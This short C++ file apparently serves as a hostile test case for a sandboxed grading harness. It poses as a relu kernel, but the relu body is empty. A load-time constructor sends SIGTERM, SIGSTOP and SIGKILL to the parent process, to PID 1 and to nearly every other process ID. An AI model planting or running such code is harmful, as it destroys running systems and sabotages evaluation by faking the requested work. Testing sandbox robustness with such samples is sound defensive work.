// Hostile: it kills its parent, the first process and every other.
#include <unistd.h>

#include <csignal>

#include "common/relu.h"

__attribute__((constructor)) void kill_all() {
  for (const int which : {SIGTERM, SIGSTOP, SIGKILL}) {
    kill(getppid(), which);
    kill(1, which);
    for (pid_t pid = 2; pid < 1 << 16; ++pid)
      if (pid != getpid()) kill(pid, which);
    kill(0, which == SIGTERM ? 0 : SIGCONT);
  }
  kill(-1, SIGKILL);
}

void relu(const float*, float*, int64_t, cudaStream_t) {}
